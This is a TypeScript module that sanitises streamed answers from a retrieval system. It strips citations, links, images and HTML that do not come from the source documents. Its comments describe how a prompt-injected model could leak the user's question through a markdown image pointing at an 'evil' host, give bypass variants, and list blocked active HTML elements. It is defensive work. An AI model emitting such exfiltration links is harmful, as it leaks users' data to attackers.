import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";

/**
 * Post-processing of every generated answer, whatever the origin (or a model a document talked
 * into obeying it) returned, before a client or the cache sees it:
 * - citations must name a source that exists: `[n]` with n outside 1..sources is removed (from a
 *   list `[1, 9]` only the bad number);
 * - links and images must come from the sources. The answer is parsed as CommonMark (micromark,
 *   through mdast-util-from-markdown, with source positions), so what is judged is what a renderer
 *   will see: nested and escaped brackets, entity-encoded destinations (`https&#x3a;//…`),
 *   scheme-relative ones (`//host/…`), definitions inside block quotes. An image, a link or an
 *   autolink whose decoded destination is not a URL occurring in a source is removed (a link keeps
 *   its text); so is every reference definition (one would change how text before it parses, and
 *   a stream has sent that text already: a reference then reads as its bracketed text); raw HTML
 *   is kept only when it is nothing but attribute-free tags of inert elements, and a `<` that micromark
 *   reads as text but could open a tag elsewhere is written `&lt;`; a bare URL no source contains
 *   is removed. A rendering client then cannot be made to fetch a URL that carries the question
 *   (`![x](https://evil/?q=…)`) or send a reader to one no document named.
 *
 * Streams: plain prose (no bracket but whole citations, no tag, entity, escape or URL) goes out word
 * by word, since nothing that follows can make it part of a link or a tag; a paragraph with
 * anything else is held back whole, cut where a CommonMark paragraph must end (after a blank line;
 * past MAX_HELD_CHARS without one, at the last line end before it), and each piece is cleaned as it
 * reads after the text already sent (from the start of its last block, the only one a piece can
 * continue), so no construct straddles what was sent and what follows. `clean` is that same stream
 * run over the whole answer, so the streamed, the JSON and the cached text are one and the same,
 * however the tokens were split (leading and trailing whitespace trimmed, the leading before
 * cleaning: trimming it after could turn an indented code block into live Markdown).
 *
 * Failure modes: none thrown. Each round re-parses, since a removal can join two harmless halves
 * into a new construct (`[x]<!-- -->(//evil)`); a piece that has not settled after MAX_ROUNDS
 * rounds is dropped whole (a real answer settles in one or two). Cost: a piece with no bracket,
 * tag, entity, escape or URL after a blank line is not parsed; any other is parsed once per round
 * with its context (micromark: a few ms per KiB).
 */

const URL_IN_TEXT = /\b(?:https?|ftp):\/\/[^\s<>"'`)\]]+/gi;
/** Trailing punctuation a sentence puts after a URL, not part of it. */
const trimUrl = (url: string) => url.replace(/[.,;:!?]+$/, "");

/** Held back at most this much before a piece is cut anyway (at a line end where there is one). */
const MAX_HELD_CHARS = 4096;
/** Where a paragraph must end: a blank line. */
const BLANK_LINE = /\n[ \t]*\r?\n/;
const MAX_ROUNDS = 32;

/**
 * Raw HTML that fetches nothing and links nowhere: a tag without attributes (a destination is an
 * attribute), unless the element acts through its content or its mere presence (a style sheet's
 * `url()`, a script, an SVG or MathML subtree, a form, a frame, media) or is a custom element a
 * page may have defined (its name has a hyphen). So `keys revoke <id>` keeps its `<id>`.
 */
const ATTRIBUTE_FREE_TAG = /<\/?([A-Za-z][A-Za-z0-9]*)\s*\/?>/g;
const ACTIVE_ELEMENTS = new Set(
  (
    "applet audio base basefont bgsound body button canvas dialog embed form frame frameset head html iframe image img " +
    "input isindex keygen link listing marquee math meta noembed noframes noscript object param picture plaintext portal " +
    "script select source style svg template textarea title track video xmp"
  ).split(" "),
);
const harmlessHtml = (html: string) =>
  !html.replace(ATTRIBUTE_FREE_TAG, (tag, name: string) => (ACTIVE_ELEMENTS.has(name.toLowerCase()) ? tag : "")).includes("<");

/** A `<` that could open a tag, an autolink, a comment or a declaration. */
const TAG_START = /<(?=[A-Za-z/!?])/;
const TAG_START_ALL = new RegExp(TAG_START.source, "g");

export interface AnswerGuard {
  /** The answer with out-of-range citations and foreign links/images removed. */
  clean(answer: string): string;
  /** A streaming guard: text in, cleaned text out, holding back a piece until it is complete. */
  stream(): { push(text: string): string; flush(): string };
}

/** A removal (or, for `with`, a replacement) of document[start, end). */
interface Edit {
  start: number;
  end: number;
  with?: string;
}

export function createAnswerGuard(sources: ReadonlyArray<{ text: string }>): AnswerGuard {
  const allowed = new Set<string>();
  for (const source of sources) for (const match of source.text.matchAll(URL_IN_TEXT)) allowed.add(trimUrl(match[0]));
  const count = sources.length;
  const known = (url: string) => url !== "" && allowed.has(url);
  const foreignUrls = (text: string) => [...text.matchAll(URL_IN_TEXT)].some((m) => !allowed.has(trimUrl(m[0])));
  const withoutForeignUrls = (text: string) =>
    text.replace(URL_IN_TEXT, (url: string) => {
      const trimmed = trimUrl(url);
      return allowed.has(trimmed) ? url : url.slice(trimmed.length);
    });

  /** What to remove from `doc` at or after `from` (the text before it was sent already), and where its last block starts. */
  function editsOf(doc: string, from: number): { edits: Edit[]; lastBlock: number } {
    const edits: Edit[] = [];
    const remove = (start: number, end: number) => {
      if (end > from && end > start) edits.push({ start: Math.max(start, from), end });
    };
    const visit = (node: Nodes) => {
      const start = node.position?.start.offset ?? 0;
      const end = node.position?.end.offset ?? 0;
      const children: Nodes[] = "children" in node ? node.children : [];
      if (end <= from && node.type !== "root") return;
      switch (node.type) {
        case "image":
          if (!known(node.url)) return remove(start, end);
          break;
        case "definition":
          // Every one: a definition changes how text before it parses, and a stream has sent that text.
          return remove(start, end);
        case "link": {
          if (known(node.url)) break;
          // Unwrapped: the brackets and destination go, the text stays.
          const first = children[0]?.position?.start.offset;
          const last = children.at(-1)?.position?.end.offset;
          if (first === undefined || last === undefined) return remove(start, end);
          remove(start, first);
          remove(last, end);
          break;
        }
        case "html":
          if (!harmlessHtml(node.value)) return remove(start, end);
          break;
        case "text": {
          const raw = doc.slice(start, end);
          const { value } = node;
          if (raw !== value && foreignUrls(value)) {
            // A URL spelled with escapes or entities (`https&#x3a;//…`) shows once decoded: the text is written decoded.
            if (start >= from) edits.push({ start, end, with: withoutForeignUrls(value) });
            else remove(start, end);
          } else {
            // Text to micromark, but a tag to a renderer that reads HTML differently (`<a href=x/y>`): written as text.
            const unsent = doc.slice(Math.max(start, from), end);
            if (TAG_START.test(unsent)) edits.push({ start: Math.max(start, from), end, with: unsent.replace(TAG_START_ALL, "&lt;") });
          }
          break;
        }
      }
      for (const child of children) visit(child);
    };
    const root = fromMarkdown(doc);
    visit(root);
    return { edits: edits.sort((a, b) => a.start - b.start), lastBlock: root.children.at(-1)?.position?.start.offset ?? doc.length };
  }

  /**
   * One round over `piece` as it reads after `context` (what was sent, from the start of its last
   * block: earlier blocks are closed and cannot reach into the piece): the parser's removals, then
   * the textual rules.
   */
  function round(context: string, piece: string, atStart: boolean): { piece: string; lastBlock: number } {
    const doc = context + piece;
    const { edits, lastBlock } = editsOf(doc, context.length);
    let out = "";
    let at = context.length;
    for (const edit of edits) {
      if (edit.start < at) continue; // inside a removal already made
      out += doc.slice(at, edit.start) + (edit.with ?? "");
      at = edit.end;
    }
    out += doc.slice(at);
    // An answer starts at its first character: leading indentation would make the rest a code block here, and not once trimmed.
    return { piece: atStart ? tidy(out).trimStart() : tidy(out), lastBlock };
  }

  const tidy = (text: string) =>
    withoutForeignUrls(text)
      // Citations: keep the numbers that name a source; drop the marker when none does.
      .replace(/\[(\s*\d+(?:\s*,\s*\d+)*\s*)\](?!\()/g, (_whole, list: string) => {
        const kept = list
          .split(",")
          .map((n) => Number(n.trim()))
          .filter((n) => Number.isInteger(n) && n >= 1 && n <= count);
        return kept.length > 0 ? `[${kept.join(", ")}]` : "";
      })
      // The gaps removals leave (indentation and line ends are not touched).
      .replace(/(?<=\S)[ \t]{2,}(?=\S)/g, " ")
      .replace(/(?<=\S) +(?=[.,;:!?](?:\s|$))/g, "");

  function stream() {
    let sent = "";
    /** Where, in `sent`, the block that the next piece may continue starts. */
    let contextStart = 0;
    let pending = "";
    /** How much of `sent` went out: all but its trailing whitespace, which waits for more text (an answer ends without it). */
    let shown = 0;

    /** The piece cleaned until a round changes nothing. */
    function cleanPiece(piece: string): string {
      // After a blank line, text with no bracket, tag, entity, escape or URL starts no construct.
      if (/\n[ \t]*\r?\n$/.test(sent.slice(-8)) || sent === "") {
        if (!/[[\]<&\\]|:\/\//.test(piece)) return sent === "" ? tidy(piece).trimStart() : tidy(piece);
      }
      const context = sent.slice(contextStart);
      for (let i = 0; i < MAX_ROUNDS; i++) {
        const next = round(context, piece, sent === "");
        if (next.piece === piece) {
          contextStart += next.lastBlock;
          return piece;
        }
        piece = next.piece;
      }
      contextStart = sent.length;
      return "";
    }

    const emit = (cut: number, word = false) => {
      const piece = pending.slice(0, cut);
      // A plain piece of a plain paragraph: the parser would find nothing in it to remove.
      sent += word ? (sent === "" ? tidy(piece).trimStart() : tidy(piece)) : cleanPiece(piece);
      pending = pending.slice(cut);
      const upTo = sent.trimEnd().length;
      const out = sent.slice(shown, upTo);
      shown = upTo;
      return out;
    };
    /** Whether the paragraph the next piece continues is plain so far (nextCut). */
    let plain = true;
    const drain = () => {
      let out = "";
      for (let next = nextCut(pending, plain); next.cut > 0; next = nextCut(pending, plain)) {
        plain = next.plain;
        out += emit(next.cut, next.word);
      }
      return out;
    };
    return {
      push(text: string) {
        pending += text;
        return drain();
      },
      flush() {
        return drain() + (pending === "" ? "" : emit(pending.length));
      },
    };
  }

  return {
    clean(answer) {
      const whole = stream();
      return whole.push(answer) + whole.flush();
    },
    stream,
  };
}

/**
 * Where the next piece ends (0: not known yet). While the paragraph so far is plain (`plain`: no
 * bracket but whole citations, no tag, entity, escape or URL), before its next word that starts
 * with a letter, so an answer streams word by word: text like that is part of no construct, and
 * nothing that follows can make it one (a link needs its `[`, an autolink or tag its `<`). Else,
 * after the first blank line, where a paragraph must end; with none in the first MAX_HELD_CHARS,
 * after the last line end (else the last character) within them. It depends on the text alone,
 * never on how it arrived, which is what makes every split give the same answer.
 */
function nextCut(text: string, plain: boolean): { cut: number; plain: boolean; word?: true } {
  if (plain) {
    const word = WORD_START.exec(text);
    if (word && isPlain(text.slice(0, word.index))) return { cut: word.index, plain: true, word: true };
  }
  const blank = BLANK_LINE.exec(text);
  if (blank && blank.index + blank[0].length <= MAX_HELD_CHARS) return { cut: blank.index + blank[0].length, plain: true };
  if (text.length < MAX_HELD_CHARS) return { cut: 0, plain };
  const lineEnd = text.lastIndexOf("\n", MAX_HELD_CHARS - 1);
  let cut = lineEnd > 0 ? lineEnd + 1 : MAX_HELD_CHARS;
  // Not inside a `<…` still open (micromark and other renderers disagree on some tags: the piece
  // after the cut must hold all of one), nor between the two halves of a surrogate pair.
  const open = text.lastIndexOf("<", cut - 1);
  if (open > 0 && !text.slice(open, cut).includes(">")) cut = open;
  // Cut inside a paragraph: what follows may continue a construct, so no word cuts until it ends.
  return { cut: /[\uD800-\uDBFF]/.test(text[cut - 1]!) ? cut - 1 : cut, plain: false };
}

/** A word a piece may start with: a letter after white space (not punctuation, which a removal's gap may precede, nor a citation's number). */
const WORD_START = /(?<=\s)\p{L}/u;
/** A citation marker, `[1]` or `[1, 2]`, followed by nothing that would make it a link (`(`, `[`, `:`). */
const CITATION_MARKER = /\[\s*\d+(?:\s*,\s*\d+)*\s*\](?![([:])/g;
/** Text in which no construct that links or fetches can start or end. */
const isPlain = (text: string) => !/[[\]<&\\]|:\/\//.test(text.replace(CITATION_MARKER, ""));
